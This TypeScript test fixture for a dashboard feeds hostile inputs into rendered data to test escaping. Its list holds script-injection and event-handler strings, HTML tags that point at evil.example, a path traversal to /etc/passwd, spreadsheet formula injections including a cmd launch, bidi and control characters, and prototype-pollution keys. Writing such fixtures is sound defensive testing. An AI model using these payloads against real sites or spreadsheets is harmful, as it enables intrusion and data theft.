import { payloadText, previewOf } from '../../../lib/dashboard/payload-text.js';

/** Texts that break out, run, confuse or overwhelm where they can. Each runs `pwned()` if it runs at all. */
export const HOSTILE: readonly string[] = [
  '<script>pwned()</script>',
  '"><img src=x onerror=pwned()>',
  "'><svg/onload=pwned()>",
  '</title></textarea></style></script><script>pwned()</script>',
  '--><script>pwned()</script><!--',
  ']]><script>pwned()</script>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<form action="https://evil.example/"><input name=csrf></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<a href="javascript:pwned()" id="main" autofocus onfocus="pwned()">x</a>',
  'javascript:pwned()',
  ' \u0001javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '//evil.example/',
  '\\\\evil.example\\',
  '../../../../etc/passwd',
  '..',
  '?a=b&c#d%00%2f%5c',
  '" onmouseover="pwned()" x="',
  '` onclick=pwned() `',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;script&#62;pwned()',
  '${pwned()}{{pwned()}}<%= pwned() %>',
  '=HYPERLINK("https://evil.example/","x")',
  '+cmd|"/c calc"!A0',
  '@SUM(1+1)',
  '\0\u0001\u0008\u001b[31m\u007f\u009b\r\n\t',
  'abc\u202egnp.exe\u2066\u2067\u200f\u061c',
  '\u2028\u2029\ufeff\u200b',
  '\ud800 \udfff \udbff\udbff',
  '\u0300'.repeat(400),
  '__proto__',
  'constructor',
  'toString',
  'a'.repeat(10_000),
  'ü'.repeat(10_000),
  '<b>'.repeat(5_000),
  `${'x '.repeat(500_000)}<script>pwned()</script>`,
  '漢字'.repeat(2_000),
  '',
  ' ',
];

/** The hostile text for a place: all come to all places in turn. */
export class Turn {
  private next = 0;

  constructor(private readonly start: number) {}

  text(): string {
    return HOSTILE[(this.start + this.next++) % HOSTILE.length] ?? '';
  }

  /** The same shape with other texts; of it come more of each list. */
  fill<T>(value: T): T {
    return this.filled(value) as T;
  }

  private filled(value: unknown): unknown {
    if (typeof value === 'string') return this.text();
    if (Array.isArray(value)) return value.map((item: unknown) => this.filled(item));
    if (value instanceof Date || typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(
      Object.entries(value).map(([key, item]) => [key, KEPT.has(key) ? item : this.filled(item)]),
    );
  }
}

/** Not strangers' texts: what the page's own code chooses. */
const KEPT = new Set(['base', 'kind', 'action', 'order', 'filter', 'reason']);

/** A payload of everything. */
export const HOSTILE_PAYLOAD: unknown = {
  texts: HOSTILE,
  ...Object.fromEntries(HOSTILE.map((text) => [text, text])),
  ...(JSON.parse('{"__proto__":{"polluted":true}}') as object),
  numbers: [-0, NaN, Infinity, 10n ** 400n, 1e308],
  deep: nest(20_000),
};

function nest(levels: number): unknown {
  let value: unknown = 'the end';
  for (let i = 0; i < levels; i++) value = i % 2 === 0 ? [value] : { a: value };
  return value;
}

export const hostilePayload = payloadText(HOSTILE_PAYLOAD);
export const hostilePreview = previewOf(HOSTILE_PAYLOAD);
